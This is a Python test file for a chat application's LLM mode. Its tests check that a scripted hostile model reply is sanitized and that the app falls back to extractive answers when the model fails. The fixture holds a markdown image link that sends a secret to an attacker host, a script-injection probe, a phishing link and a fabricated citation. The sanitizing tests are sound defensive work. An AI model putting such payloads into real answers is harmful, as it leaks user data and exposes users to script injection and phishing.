"""The chat page in LLM mode, against the local OpenAI-compatible test server (tests/llm_server.py)."""

from __future__ import annotations

import pytest

from tests.llm_server import LLMServer, Reply
from tests.ui_support import (
    ATTACKER,
    PIG_QUESTION,
    answer_html,
    app_test,
    assert_inert,
    assert_view_inert,
    shown_sentences,
)

HOSTILE_REPLY = (
    "PIG makes the mesh learnable: Gaussians whose means and variances are trained [1]. "
    f"![x](http://{ATTACKER}/?q=secret) <script>alert(1)</script> "
    f"Details are [here](http://{ATTACKER}/phish) and in a paper that was never retrieved [7]."
)


def test_llm_answer_shows_model_and_is_cleaned(
    llm_server: LLMServer, monkeypatch: pytest.MonkeyPatch, seed_library
) -> None:  # type: ignore[no-untyped-def]
    llm_server.configure_env(monkeypatch, timeout_s=5)
    llm_server.script(HOSTILE_REPLY)
    at = app_test()
    sidebar = " ".join(c.value for c in at.sidebar.caption)
    assert "test\\-model" in sidebar and "reachable" in sidebar

    at.chat_input[0].set_value(PIG_QUESTION).run()
    assert not at.exception, at.exception
    answer = at.session_state["chat_messages"][-1]["answer"]
    assert answer.mode == "llm" and answer.model == llm_server.model
    assert llm_server.chat_requests, "the question went to the LLM"

    message = at.chat_message[-1]
    assert "LLM\\: test\\-model" in message.caption[0].value
    body = answer_html(message)  # the answer, sentence by sentence with its sources
    shown = shown_sentences(body)
    assert shown[0][0].startswith("PIG makes the mesh learnable") and shown[0][1] == [1]
    assert 'data-n="7"' not in body and all(7 not in chips for _, chips, _ in shown)
    assert ATTACKER not in body and "<script" not in body and "![" not in body
    assert_view_inert(body)
    assert [c.n for c in answer.citations] == [1]
    assert_inert(at)


def test_llm_failure_falls_back_to_extractive_with_reason(
    llm_server: LLMServer, monkeypatch: pytest.MonkeyPatch, seed_library
) -> None:  # type: ignore[no-untyped-def]
    llm_server.configure_env(monkeypatch, timeout_s=5)
    llm_server.script(Reply(status=500))
    at = app_test()
    at.chat_input[0].set_value(PIG_QUESTION).run()
    assert not at.exception, at.exception
    answer = at.session_state["chat_messages"][-1]["answer"]
    assert answer.mode == "extractive" and answer.fallback_reason
    assert "The LLM failed" in at.warning[0].value
    assert answer.citations and answer.citations[0].title.startswith("PIG")
